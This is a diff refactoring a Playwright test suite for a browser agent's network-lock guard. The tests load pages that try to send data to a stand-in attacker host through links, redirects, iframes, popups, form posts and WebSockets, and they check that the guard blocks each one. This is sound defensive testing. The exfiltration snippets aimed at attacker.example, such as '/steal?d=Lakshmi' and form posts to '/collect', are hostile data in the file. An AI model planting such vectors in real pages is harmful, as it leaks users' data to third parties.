@@ -1,42 +1,25 @@
-import type { Browser, Page } from 'playwright-core';
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import type { Page } from 'playwright-core';
+import { describe, expect, it } from 'vitest';
 import { contextOptionsFor } from '../../../../src/agent/guard/browser';
 import type { GuardEvent } from '../../../../src/agent/guard/browser';
 import { newTabsOf } from '../../../../src/agent/guard/watchdogs/popups';
-import { ATTACKER, fullyGuardedPage, guardedPage, HELP, launchLabChromium, PORTAL, PortalServer, settle, type GuardedPage } from './portal-server';
+import { ATTACKER, fullyGuardedPage, HELP, PORTAL, settle, useGuardedPortal } from './portal-server';
 
 /**
  * Each attack vector against the network lock in real Chromium, counted at the server: the
  * attacker host (and the portal's host on an unlisted port) must receive no request at all.
  */
 
-let browser: Browser;
-const server = new PortalServer();
-let guarded: GuardedPage;
-
-beforeAll(async () => {
-  await server.start();
-  browser = await launchLabChromium();
-});
-afterAll(async () => {
-  await browser?.close();
-  await server.stop();
-});
-beforeEach(async () => {
-  server.clear();
-  guarded = await guardedPage(browser, server.profile());
-});
-afterEach(async () => {
-  await guarded.context.close();
-});
+const lab = useGuardedPortal();
+const server = lab.server;
 
 const attacker = (path: string) => `http://${ATTACKER}:${server.port}${path}`;
 
 /** Opens a portal page with `html`, lets it run, and answers the page. */
 async function open(html: string): Promise<Page> {
   const path = server.page(`/p${Math.random().toString(36).slice(2)}`, html);
-  await guarded.page.goto(`${server.origin()}${path}`);
-  return guarded.page;
+  await lab.guarded.page.goto(`${server.origin()}${path}`);
+  return lab.guarded.page;
 }
 
 function expectNothingOffPortal(): void {
@@ -44,7 +27,7 @@ function expectNothingOffPortal(): void {
 }
 
 function eventTypes(): string[] {
-  return guarded.events.map((e) => e.type);
+  return lab.guarded.events.map((e) => e.type);
 }
 
 /**
@@ -53,7 +36,7 @@ function eventTypes(): string[] {
  */
 async function stopped(type: GuardEvent['type'], count = 1): Promise<void> {
   await expect.poll(() => eventTypes().filter((t) => t === type).length, { timeout: 20_000 }).toBeGreaterThanOrEqual(count);
-  await settle(guarded.page, 400);
+  await settle(lab.guarded.page, 400);
 }
 
 describe('network lock: navigation vectors (attacker receives nothing)', () => {
@@ -62,18 +45,18 @@ describe('network lock: navigation vectors (attacker receives nothing)', () => {
     await page.click('#go').catch(() => undefined);
     await stopped('navigation_blocked');
     expectNothingOffPortal();
-    expect(guarded.events).toContainEqual(expect.objectContaining({ type: 'navigation_blocked', url: attacker('/steal?d=Lakshmi') }));
+    expect(lab.guarded.events).toContainEqual(expect.objectContaining({ type: 'navigation_blocked', url: attacker('/steal?d=Lakshmi') }));
     expect(page.url()).not.toContain(ATTACKER);
   });
 
   it('redirect chain: an allowed address that 302s (twice) to the attacker ends aborted', async () => {
     const hop2 = `${server.origin()}/redirect?to=${encodeURIComponent(attacker('/after-redirect?d=1'))}`;
     const hop1 = `${server.origin()}/redirect?to=${encodeURIComponent(hop2)}`;
-    await expect(guarded.page.goto(hop1)).rejects.toThrow(/ERR_BLOCKED_BY_CLIENT/);
+    await expect(lab.guarded.page.goto(hop1)).rejects.toThrow(/ERR_BLOCKED_BY_CLIENT/);
     await stopped('navigation_blocked');
     expectNothingOffPortal();
     expect(server.to(PORTAL).map((h) => h.path.split('?')[0])).toEqual(['/redirect', '/redirect']);
-    const event = guarded.events.find((e) => e.type === 'navigation_blocked');
+    const event = lab.guarded.events.find((e) => e.type === 'navigation_blocked');
     expect(event?.detail).toMatch(/Stopped a redirect from shops\.portal\.example:\d+ to attacker\.example:\d+/);
   });
 
@@ -88,7 +71,7 @@ describe('network lock: navigation vectors (attacker receives nothing)', () => {
     await open(`<iframe src="${attacker('/frame')}"></iframe>`);
     await stopped('navigation_blocked');
     expectNothingOffPortal();
-    expect(guarded.events).toContainEqual(expect.objectContaining({ type: 'navigation_blocked', url: attacker('/frame') }));
+    expect(lab.guarded.events).toContainEqual(expect.objectContaining({ type: 'navigation_blocked', url: attacker('/frame') }));
   });
 
   it('iframe of an allowed site that redirects to the attacker, and a redirecting link inside it', async () => {
@@ -112,19 +95,19 @@ describe('network lock: navigation vectors (attacker receives nothing)', () => {
     await page.click('#go');
     await stopped('popup_closed');
     expectNothingOffPortal();
-    await expect.poll(() => guarded.context.pages(), { timeout: 20_000 }).toEqual([page]);
+    await expect.poll(() => lab.guarded.context.pages(), { timeout: 20_000 }).toEqual([page]);
   });
 
   it('window.open to an allowed address that redirects to the attacker', async () => {
     // The whole guard, as a run has it: the network lock fetches a new tab's first page through the egress lock's proxy.
-    await guarded.context.close();
-    guarded = await fullyGuardedPage(browser, server.profile());
+    await lab.guarded.context.close();
+    lab.guarded = await fullyGuardedPage(lab.browser, server.profile());
     const to = `/redirect?to=${encodeURIComponent(attacker('/popup-redirect'))}`;
     const page = await open(`<button id="go" onclick="window.open('${to}')">Open</button>`);
     await page.click('#go');
     // A new tab on the portal's address may load (the run follows it); its first hop, before any page lock is on the tab, is checked here.
     await stopped('navigation_blocked');
-    expect(guarded.events.find((e) => e.type === 'navigation_blocked')?.detail).toMatch(/new tab's redirect/);
+    expect(lab.guarded.events.find((e) => e.type === 'navigation_blocked')?.detail).toMatch(/new tab's redirect/);
     await stopped('popup_closed');
     expectNothingOffPortal();
     expect(server.to(PORTAL).filter((h) => h.path.startsWith('/redirect'))).toHaveLength(1);
@@ -139,7 +122,7 @@ describe('network lock: navigation vectors (attacker receives nothing)', () => {
     await page.click('#b');
     await stopped('popup_closed', 2);
     expectNothingOffPortal();
-    await expect.poll(() => guarded.context.pages().length, { timeout: 20_000 }).toBe(1);
+    await expect.poll(() => lab.guarded.context.pages().length, { timeout: 20_000 }).toBe(1);
   });
 
   it('form post to another host', async () => {
@@ -153,8 +136,8 @@ describe('network lock: navigation vectors (attacker receives nothing)', () => {
 
   it('form whose target is a new window: to another host refused, to the portal posted once in a tab kept for the run', async () => {
     // The whole guard, as a run has it: the network lock fetches a new tab's first page through the egress lock's proxy.
-    await guarded.context.close();
-    guarded = await fullyGuardedPage(browser, server.profile());
+    await lab.guarded.context.close();
+    lab.guarded = await fullyGuardedPage(lab.browser, server.profile());
     const page = await open(
       `<form method="post" target="_blank" action="${attacker('/collect')}"><input name="business" value="Lakshmi Stores"><button id="out">Send elsewhere</button></form>` +
         `<form method="post" target="_blank" action="/save"><button id="go">Save</button></form>`,
@@ -164,7 +147,7 @@ describe('network lock: navigation vectors (attacker receives nothing)', () => {
     await stopped('popup_closed');
     expectNothingOffPortal();
     await page.click('#go');
-    const tabs = newTabsOf(guarded.context)!;
+    const tabs = newTabsOf(lab.guarded.context)!;
     let kept: Page[] = [];
     await expect.poll(async () => (kept = [...kept, ...(await tabs.take())]).length, { timeout: 20_000 }).toBe(1);
     expect(new URL(kept[0]!.url()).pathname).toBe('/save');
@@ -211,7 +194,7 @@ describe('network lock: navigation vectors (attacker receives nothing)', () => {
     await page.click('#go').catch(() => undefined);
     await stopped('navigation_blocked');
     expect(server.onOtherPort()).toEqual([]);
-    expect(guarded.events).toContainEqual(expect.objectContaining({ type: 'navigation_blocked', detail: expect.stringContaining(`not on port ${server.otherPort}`) }));
+    expect(lab.guarded.events).toContainEqual(expect.objectContaining({ type: 'navigation_blocked', detail: expect.stringContaining(`not on port ${server.otherPort}`) }));
   });
 
   it('data:, file: and blob: navigations go nowhere off the portal (Chromium refuses the first two itself)', async () => {
@@ -243,7 +226,7 @@ describe('network lock: subresources and sockets (data leaving another way)', ()
     await stopped('request_blocked', 6);
     expectNothingOffPortal();
     expect(server.to(PORTAL).some((h) => h.path === '/logo.png')).toBe(true);
-    const blocked = guarded.events.filter((e) => e.type === 'request_blocked');
+    const blocked = lab.guarded.events.filter((e) => e.type === 'request_blocked');
     expect(blocked.length).toBeGreaterThanOrEqual(5);
     expect(blocked.some((e) => /redirect/.test(e.detail))).toBe(true);
   });
@@ -257,13 +240,13 @@ describe('network lock: subresources and sockets (data leaving another way)', ()
     await expect.poll(() => server.to(PORTAL).filter((h) => h.upgrade).length, { timeout: 20_000 }).toBe(1);
     await settle(page, 400);
     expectNothingOffPortal();
-    expect(guarded.events).toContainEqual(expect.objectContaining({ type: 'request_blocked', detail: expect.stringContaining('WebSocket') }));
+    expect(lab.guarded.events).toContainEqual(expect.objectContaining({ type: 'request_blocked', detail: expect.stringContaining('WebSocket') }));
   });
 });
 
 describe('the harness counts what lands', () => {
   it('without the watchdogs, the same vectors do reach the attacker', async () => {
-    const context = await browser.newContext(contextOptionsFor(server.profile()));
+    const context = await lab.browser.newContext(contextOptionsFor(server.profile()));
     const page = await context.newPage();
     try {
       const path = server.page('/unguarded', `<img src="${attacker('/pixel.gif')}"><iframe src="${attacker('/frame')}"></iframe>`);
